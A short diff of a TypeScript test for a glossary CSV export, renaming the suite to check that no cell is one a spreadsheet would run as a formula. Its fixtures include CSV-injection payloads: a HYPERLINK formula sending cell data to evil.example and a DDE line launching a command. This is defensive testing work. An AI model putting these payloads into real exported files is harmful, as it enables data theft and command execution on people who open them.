@@ -21,7 +21,7 @@ const term = (over: Partial<ApiTerm>): ApiTerm => ({
 // Excel, LibreOffice and Google Sheets run a cell starting with one of these as a formula, quoted or not.
 const RUNS_AS_FORMULA = /^[\s]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]|^[\t\r\n\0]/;
 
-describe('/glossary.csv (#12.1)', () => {
+describe('/glossary.csv: no cell a spreadsheet would run as a formula', () => {
   const hostile = [
     '=HYPERLINK("https://evil.example/?d="&A2,"Click me")',
     "+cmd|' /C calc'!A0",
